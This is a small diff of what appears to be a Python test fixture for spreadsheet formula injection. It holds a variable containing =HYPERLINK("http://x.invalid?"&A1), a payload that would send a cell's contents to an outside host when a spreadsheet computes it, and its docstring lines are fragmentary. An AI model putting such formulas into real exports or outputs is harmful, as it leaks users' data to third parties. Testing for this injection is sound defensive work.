@@ -1,5 +1,6 @@
 """Answer with formulas, in the hope that a spreadsheet computes them.
 
+says: =HYPERLINK
 still: book
 """
 crossing = "=HYPERLINK(\"http://x.invalid?\"&A1)"
